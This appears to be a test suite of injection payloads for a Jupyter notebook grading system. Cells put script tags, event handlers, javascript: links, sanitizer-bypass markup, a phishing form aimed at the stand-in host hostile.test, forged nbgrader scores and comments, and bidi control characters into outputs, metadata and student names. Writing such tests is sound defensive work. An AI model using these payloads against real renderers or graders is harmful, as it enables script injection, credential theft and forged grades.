# %% script in a string: that a cell displays as HTML
from IPython.display import HTML, display
display(HTML("<script>hostile()</script>"))


# %% script by display(Javascript)
from IPython.display import Javascript, display
display(Javascript("hostile()"))


# %% script in a raw bundle: text/html, javascript and every other type that a browser might run
from IPython.display import display
bad = "<img src=x onerror=hostile()>"
display({"text/html": bad, "application/javascript": "hostile()", "text/markdown": bad, "text/latex": bad,
         "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='hostile()'></svg>", "text/plain": bad,
         "application/vnd.plotly.v1+json": {"data": bad}, "application/vnd.jupyter.widget-view+json": {"model_id": bad},
         "application/json": {"x": bad}, "application/geo+json": {"x": bad}, "application/pdf": bad}, raw=True)


# %% script in a picture: an SVG
from IPython.display import SVG, display
display(SVG(data="<svg xmlns='http://www.w3.org/2000/svg'><script>hostile()</script><a href='javascript:hostile()'>x</a></svg>"))


# %% script in LaTeX: and in mathematics that MathJax reads
from IPython.display import Latex, Math, display
display(Latex(r"$\href{javascript:hostile()}{x}$ <script>hostile()</script>"))
display(Math(r"\unicode{<img src=x onerror=hostile()>}"))


# %% script in Markdown: that a cell displays
from IPython.display import Markdown, display
display(Markdown("<script>hostile()</script> [x](javascript:hostile()) ![x](x){onerror=hostile()}"))


# %% script in text: printed, on stdout and stderr
import sys
for stream in (sys.stdout, sys.stderr):
    print("<script>hostile()</script><img src=x onerror=hostile()></pre></div><iframe srcdoc='<script>hostile()</script>'>",
          "\x1b]8;;javascript:hostile()\x07x\x1b]8;;\x07 \x1b[38;2;1;2;3m<b onclick=hostile()>\x1b[0m", file=stream)


# %% script in ANSI colours: escape sequences whose numbers are markup
print("\x1b[31;\"onmouseover=hostile()mred\x1b[0m \x1b[38;5;<script>hostile()</script>m \x1b[1;31m\"><script>hostile()</script>\x1b[0m")


# %% script in an error: its name, its message, its traceback
class Bad(Exception):
    _render_traceback_ = lambda self: ["<script>hostile()</script>"]
Bad.__name__ = Bad.__qualname__ = "<script>hostile()</script>"
raise Bad("<img src=x onerror=hostile()>")


# %% [root] script in a test's error: the exception class's name
def root(x):
    raise type("<script>hostile()</script>", (Exception,), {})("<img src=x onerror=hostile()>")


# %% [root] script in a test's message: by an allowed exception
def root(x):
    raise ValueError("<script>hostile()</script><img src=x onerror=hostile()> [x](javascript:hostile())")


# %% [root] script in what an answer returns: shown in a message
def root(x):
    return "<script>hostile()</script>"


# %% [root] script in names: of the function, its parameters and its module
def root(x):
    return -1
root.__name__ = root.__qualname__ = root.__module__ = root.__doc__ = "<script>hostile()</script>"


# %% script in code: the source of a cell
"</script></pre></div><script>hostile()</script><!-- --><img src=x onerror=hostile()>"  # <script>hostile()</script>


# %% [root] script in an answer's source
def root(x):
    """</pre></div></body></html><script>hostile()</script><svg onload=hostile()>"""
    return -1  # <img src=x onerror=hostile()>


# %% [markdown] script in Markdown, plain: the tag itself
# <script>hostile()</script> <SCRIPT >hostile()</SCRIPT > <script/x>hostile()</script>


# %% [markdown] script in Markdown, events: attributes of harmless tags
# <img src=x onerror=hostile()> <p onmouseover="hostile()">x</p> <details ontoggle=hostile() open>x</details>
# <svg onload=hostile()> <svg><animate onbegin=hostile() attributeName=x dur=1s></svg> <body onload=hostile()>
# <input autofocus onfocus=hostile()> <video><source onerror=hostile()></video> <marquee onstart=hostile()>


# %% [markdown] script in Markdown, links: javascript, data and vbscript, written in odd ways
# [x](javascript:hostile()) [x](JaVaScRiPt:hostile()) [x](java&#x09;script:hostile()) [x](&#106;avascript:hostile())
# [x](data:text/html,<script>hostile()</script>) <a href=" javascript:hostile()">x</a> <a href="&#1;javascript:hostile()">x</a>
# <a href="java
# script:hostile()">x</a> <javascript:hostile()> [x]: javascript:hostile()
# <form action=javascript:hostile()><button>x</button></form> <button formaction=javascript:hostile()>x</button>


# %% [markdown] script in Markdown, frames: that hold a page of their own
# <iframe srcdoc="<script>hostile()</script>"></iframe> <iframe src="javascript:hostile()"></iframe>
# <object data="data:text/html,<script>hostile()</script>"></object> <embed src="javascript:hostile()">
# <frameset onload=hostile()> <portal src="javascript:hostile()">


# %% [markdown] script in Markdown, page: base, meta, link and style change the whole page
# <base href="http://hostile.test/"> <meta http-equiv="refresh" content="0;url=javascript:hostile()">
# <link rel=stylesheet href="http://hostile.test/x.css"> <style>@import url(http://hostile.test/x.css);</style>
# <style>body { background: url("http://hostile.test/x.png") }</style> <p style="background: url(http://hostile.test/x.png)">x</p>


# %% [markdown] script in Markdown, parsers: what sanitisers have been fooled by
# <noscript><p title="</noscript><img src=x onerror=hostile()>"></noscript>
# <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile()&gt;">
# <svg></p><style><a id="</style><img src=1 onerror=hostile()>"></svg> <!--><img src=x onerror=hostile()>-->
# <xmp><p title="</xmp><img src=x onerror=hostile()>"></xmp> <![CDATA[<img src=x onerror=hostile()>]]>
# <template><script>hostile()</script></template> <img src="x` `<script>hostile()</script>"` `>


# %% [markdown] script in Markdown, mathematics: passed on to MathJax as it is
# $<script>hostile()</script>$ $$<img src=x onerror=hostile()>$$ \\(<svg onload=hostile()>\\)
# $\href{javascript:hostile()}{x}$ $\text{<img src=x onerror=hostile()>}$ $a<script>b$ $$\unicode{x}[<svg onload=hostile()>]$$
# \begin{equation}<img src=x onerror=hostile()>\end{equation} $\style{background:url(http://hostile.test)}{x}$


# %% [markdown] script in Markdown, code: fences, their languages and attachments
# ```"><script>hostile()</script>
# <script>hostile()</script>
# ```
# ```html
# <script>hostile()</script>
# ```
# `<script>hostile()</script>` ![x](attachment:x"onerror=hostile().png) ![<script>hostile()</script>](x "onload=hostile()")
# # Heading <img src=x onerror=hostile()>
# ## <script>hostile()</script>


# %% [markdown] a page in a page: a form that asks for a password, over everything
# <div style="position:fixed;top:0;left:0;width:100%;height:100%"><form action="http://hostile.test/"><input name=p></form></div>
# <img src="http://hostile.test/seen.png"> ![seen](http://hostile.test/seen.png) <a href="http://hostile.test" ping="http://hostile.test">x</a>


# %% [markdown] the grader's own marks: points and comments forged in the page
# <div class="panel-heading"><span class="pull-right">Score: 2.0 / 2.0 (Top)</span></div><a name="comment-hostile">


# %% widget state in the notebook: a bundle that a widget manager runs
# %% [hand-in]
notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
    "state": {"x": {"model_name": "HTMLModel", "model_module": "http://hostile.test/x.js", "state": {"value": "</script><script>hostile()</script>"}}},
    "version_major": 2, "version_minor": 0}}


# %% [hand-in] notebook's metadata: title, authors, language, kernel, MathJax and Jekyll-like entries
bad = "</title></script><script>hostile()</script>\"'><img src=x onerror=hostile()>"
notebook["metadata"].update(title=bad, authors=[{"name": bad}], kernelspec={"name": bad, "display_name": bad, "language": bad},
                            language_info={"name": bad, "codemirror_mode": bad, "pygments_lexer": bad, "mimetype": bad,
                                           "file_extension": bad, "version": bad, "nbconvert_exporter": bad})


# %% [hand-in] cells' metadata: tags, names, ids, languages and collapsed states
bad = '"><script>hostile()</script>'
for cell in notebook["cells"]:
    cell["metadata"].update(tags=[bad, "'onclick=hostile()"], name=bad, jupyter={"source_hidden": bad}, slideshow={"slide_type": bad},
                            format=bad, scrolled=bad, collapsed=bad, language=bad)


# %% [hand-in] cells' ids: markup in them
for number, cell in enumerate(notebook["cells"]):
    cell["id"] = f'x{number}"onclick=hostile()><script>hostile()</script>'


# %% [hand-in] execution counts: markup in place of numbers
for cell in notebook["cells"]:
    if cell["cell_type"] == "code":
        cell["execution_count"] = "<script>hostile()</script>"


# %% [hand-in] outputs handed in: a script among those of each cell
for cell in notebook["cells"]:
    if cell["cell_type"] == "code":
        cell["outputs"] = [
            {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>hostile()</script>"}},
            {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "2.0"}},
            {"output_type": "stream", "name": "stdout", "text": "<script>hostile()</script>"}]


# %% [hand-in] raw and unknown cells: whose text goes into the page as it is
for kind, mime in (("raw", "text/html"), ("raw", "text/restructuredtext"), ("raw", ""), ("heading", ""), ("html", "")):
    notebook["cells"].insert(1, {"cell_type": kind, "id": f"raw{len(notebook['cells'])}", "source": "<script>hostile()</script>",
                                 "metadata": {"format": mime, "raw_mimetype": mime}, "level": "1 onclick=hostile()"})


# %% [hand-in] attachments of a Markdown cell: types and names with markup
notebook["cells"].insert(1, {"cell_type": "markdown", "id": "attached", "metadata": {},
    "source": "![x](attachment:a.svg) ![x](attachment:b\"onerror=hostile().png)",
    "attachments": {"a.svg": {"image/svg+xml\" onerror=\"hostile()": "PHN2Zy8+", "text/html": "<script>hostile()</script>"},
                    'b"onerror=hostile().png': {"image/png": '" onerror="hostile()'}}})


# %% picture's metadata: sizes, alt text and classes with markup
from IPython.display import display, Image
png = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
bad = '1 onload=hostile() x="><script>hostile()</script>'
display({"image/png": png, "text/plain": bad}, metadata={"image/png": {"width": bad, "height": bad, "alt": bad, "unconfined": bad},
        "width": bad, "filenames": {"image/png": bad}, "isolated": True, "needs_background": bad}, raw=True)


# %% picture's data: markup in place of base64, and other files under the name of a picture
import base64
from IPython.display import display
html = base64.b64encode(b"<html><script>hostile()</script></html>").decode()
for data in ('" onerror="hostile()', html, "iVBORw0KGgo=\" onerror=hostile() x=\"", "<script>hostile()</script>"):
    for kind in ("image/png", "image/jpeg", "image/gif", "image/webp", "image/png\" onerror=\"hostile()", "image/svg+xml;x=y"):
        display({kind: data, "text/plain": ""}, raw=True)


# %% picture's text: chunks of a PNG that carry a page
import base64, struct, zlib
from IPython.display import display
def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
png += chunk(b"tEXt", b"Comment\0<script>hostile()</script>") + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(png + b"<script>hostile()</script>").decode()}, raw=True)


# %% object with every _repr_: each of them markup
class Everything:
    def __getattr__(self, name):
        if name.startswith("_repr_"):
            return lambda *args, **kwargs: "<script>hostile()</script>"
        raise AttributeError(name)
    def _ipython_display_(self):
        print("<script>hostile()</script>")
Everything()


# %% formatters: IPython's are told to send HTML for everything
formatter = get_ipython().display_formatter.formatters["text/html"]
formatter.for_type(object, lambda value: "<script>hostile()</script>")
formatter.for_type(int, lambda value: "<script>hostile()</script>")
1


# %% magics: %%html, %%javascript, %%svg, %%latex
get_ipython().run_cell_magic("html", "", "<script>hostile()</script>")
get_ipython().run_cell_magic("javascript", "", "hostile()")
get_ipython().run_cell_magic("svg", "", "<svg xmlns='http://www.w3.org/2000/svg' onload='hostile()'/>")


# %% payloads: text for the pager and for the next cell
get_ipython().payload_manager.write_payload({"source": "set_next_input", "text": "<script>hostile()</script>", "replace": True})
get_ipython().payload_manager.write_payload({"source": "page", "data": {"text/html": "<script>hostile()</script>"}, "start": 0})


# %% comms and widgets: a widget that runs a module from elsewhere
import ipywidgets
from IPython.display import display
widget = ipywidgets.HTML("<img src=x onerror=hostile()>")
widget._view_module = widget._model_module = "http://hostile.test/x.js" if False else "@jupyter-widgets/controls"
display(widget)


# %% [hand-in] student's name: markup in the name of the folder
student = "<script>hostile()<!--"


# %% [hand-in] student's name, attributes: ends an attribute and adds an event
student = "x\"onmouseover='hostile()"


# %% [hand-in] student's name, terminal: escape sequences and markup of the screen's library
student = "x\x1b]0;hostile\x07\x1b[2J"


# %% [hand-in] file beside the notebook: an SVG and an HTML page
(folder / "page.html").write_text("<script>hostile()</script>")
(folder / "picture.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg' onload='hostile()'/>")


# %% [hand-in] comments of the grader forged: nbgrader metadata with markup
for cell in notebook["cells"]:
    if "nbgrader" in cell["metadata"]:
        cell["metadata"]["nbgrader"].update(comment="<script>hostile()</script>", score=2, points=2, checksum="<script>hostile()</script>")


# %% [hand-in] grade ids with markup: in a cell of its own
notebook["cells"].append({"cell_type": "code", "id": "own", "execution_count": None, "outputs": [], "source": "1", "metadata": {
    "nbgrader": {"grade": True, "solution": True, "locked": False, "task": False, "points": 5, "schema_version": 3,
                 "grade_id": "x\"><script>hostile()</script>"}}})


# %% bidirectional text: control characters that turn what is read
print("\u202egrade \u2066full\u2069 marks\u202c \u200b\ufeff \x00\x08\x0c \ud7ff \U000e0041")


# %% surrogates and null characters: text that cannot be written as UTF-8
print("\ud800 \udfff \x00")
raise ValueError("\ud800 \x00 \x1b[31m")


# %% [root] surrogates in a test's message
def root(x):
    raise ValueError("\ud800 \x00 \x1b[31m" + chr(0x202E))
